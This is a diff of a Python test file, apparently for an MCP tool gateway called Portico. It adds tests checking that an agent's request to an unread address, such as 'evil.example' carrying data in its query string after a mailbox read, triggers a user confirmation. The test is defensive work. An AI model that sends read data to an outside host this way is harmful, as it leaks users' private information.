@@ -47,7 +47,7 @@ class ActingTools:
         async def work(arguments: Mapping[str, Any], _context: Context) -> ToolResult:
             if not read_only:
                 self.mails.append(arguments)
-            return ToolResult(text, is_error=is_error)
+            return ToolResult(arguments.get("text") or text, is_error=is_error)
 
         schema = {"type": "object"}
         tool = Tool(name, "", "", schema, work, read_only=read_only, computed=computed, source="mcp:desk")
@@ -160,3 +160,35 @@ async def test_the_origins_of_a_session_end_with_it_and_without_a_session_belong
     async with asyncio.timeout(60), connect(elicitation_callback=tools.refuse) as client:
         await client.call_tool(*SEND)
     assert bool(tools.forms) is (era != "legacy")
+
+
+LINK = "https://good.example/news"
+EVIL = "https://evil.example/?q=1234"
+
+ADDRESSES: dict[str, tuple[Sequence[tuple[str, Any]], str, bool]] = {
+    "before a read": ([], EVIL, False),
+    "after a computed tool": ([("clock", {})], EVIL, False),
+    "after a read": ([("mailbox", {})], EVIL, True),
+    "address that was read": ([("links", {})], LINK, False),
+    "address in a document": (
+        [("resource", "portico://stores/docs/files/guide.md"), ("links", {})],
+        LINK,
+        False,
+    ),
+    "address that was read, with data": ([("links", {})], f"{LINK}?1234", True),
+    "repeated by a tool": ([("links", {"text": "evil.example/?q=1234"})], EVIL, True),
+}
+"""What a client reads, the address that it then requests, and whether Portico asks."""
+
+
+@pytest.mark.parametrize("name", ADDRESSES)
+async def test_only_an_address_that_was_not_read_asks_over_mcp(
+    connect: Connect, tools: ActingTools, name: str
+) -> None:
+    steps, address, asks = ADDRESSES[name]
+    tools.add("links", read_only=True, text=f"News: {LINK}.")
+    tools.add("page", read_only=True)
+    async with asyncio.timeout(60), connect(elicitation_callback=tools.refuse) as client:
+        await read(client, steps)
+        outcome = await client.call_tool("page", {"url": address})
+    assert (len(tools.forms), bool(outcome.is_error)) == (asks, asks)
